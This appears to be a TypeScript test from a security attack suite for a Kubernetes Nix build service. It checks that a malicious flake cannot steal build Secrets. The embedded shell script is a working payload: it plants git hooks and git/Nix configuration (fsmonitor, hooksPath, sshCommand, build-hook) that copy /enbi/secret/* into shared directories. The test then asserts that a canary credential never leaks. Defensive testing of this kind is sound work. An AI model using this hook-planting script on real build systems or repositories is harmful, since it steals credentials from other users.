import { aNixBuild } from '../../e2e/support/manifests.ts';
import { type Attack, mustHold } from '../attack.ts';
import { imageFlake } from '../attack-flake.ts';
import type { Session } from '../session.ts';

const repository = 'hook-in-clone-evil';
const leaked = 'leaked-by-a-hook';

/** Writes what git and Nix run or read as configuration wherever a builder may write, in every shape that they know. */
const script = `mkdir $out
bb=$busybox
hook() {
  printf '#!/bin/sh\\nfor to in /enbi/cache /nix/var /tmp; do cat /enbi/secret/* > $to/${leaked}; done 2>/dev/null\\ncat /enbi/secret/* >&2\\nexit 0\\n'
}
config() { printf '[core]\\n fsmonitor = "%s/reference-transaction"\\n hooksPath = "%s"\\n sshCommand = "%s/reference-transaction"\\n' "$1" "$1" "$1"; }
$bb mkdir -p /nix/var/evil 2>/dev/null && home=/nix/var/evil || home=/tmp/evil
$bb mkdir -p $home
for name in reference-transaction post-checkout pre-auto-gc post-index-change fsmonitor-watchman post-rewrite; do
  hook > $home/$name; $bb chmod 755 $home/$name
done
for top in /enbi /nix/var /tmp /build /home /root; do
  for at in $($bb find $top -type d 2>/dev/null | $bb head -n 4000); do
    if [ -e $at/HEAD ]; then
      $bb mkdir -p $at/hooks
      for name in $home/*; do $bb cp $name $at/hooks/; done
      config $home >> $at/config
      echo planted in $at
    fi
    config $home > $at/.gitconfig
    [ -d $at/git ] && config $home > $at/git/config
    [ -d $at/nix ] && echo "build-hook = $home/reference-transaction" > $at/nix/nix.conf
  done 2>/dev/null
done
echo all is planted
exit 0
`;

export const attack: Attack = {
  name: 'hook-in-clone',
  kind: 'reads what is not theirs',
  rights: 'the author of a flake, who has no access to the cluster',
  steps:
    'lets its builder write hooks and configuration into every clone and directory it reaches, and waits for a fetch with a Secret',
  holds: 'nothing that a builder writes is run or read as configuration where credentials are',
  quick: true,
  needsNode: true,
  repositories: {
    [repository]: { '1.0.0': imageFlake(script, 'evil-1'), '1.1.0': imageFlake(`${script}# more`, 'evil-2') },
  },
  async run(session) {
    const { attacker } = session;
    const canary = `canary-${attacker.namespace}`;
    const stringData = { netrc: `machine git.example login user password ${canary}\n`, token: canary };
    await attacker.create({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'creds' }, stringData });
    const nodes = new Set([
      // All with the Secret: without one it would be another store.
      await build(session, 'plants', '1.0.0'),
      await build(session, 'fetches', '1.1.0'),
      await build(session, 'once-more', '1.0.0'),
    ]);
    // A repository is built where it was built before, unless nothing is free there.
    if (nodes.size > 1) throw new Error('the builds were on several nodes, which share nothing');
    for (const node of session.nodes) {
      const search = ['grep', '-rls', canary, '/var/lib/enbi'];
      const found = await session.onNode(node, ...search).catch(() => '');
      mustHold(found.trim() === '', `the Secret lies on ${node} in ${found}`);
    }
  },
};

/** Gives the node. */
async function build(session: Session, name: string, tag: string): Promise<string | undefined> {
  const made = aNixBuild({ name, flakeUrl: session.flake(repository, tag), imageTag: session.image(name) });
  const annotations = { 'enbi.hrzn.ee/nixbuild-secretName': 'creds' };
  await session.attacker.create({ ...made, metadata: { name, annotations } });
  const isSo = ({ status }: { status: { status?: string | undefined } }) => status.status === 'Succeeded';
  const { status } = await session.attackersBuild({ name, isSo, what: `${name} is built` });
  return status.buildNode;
}
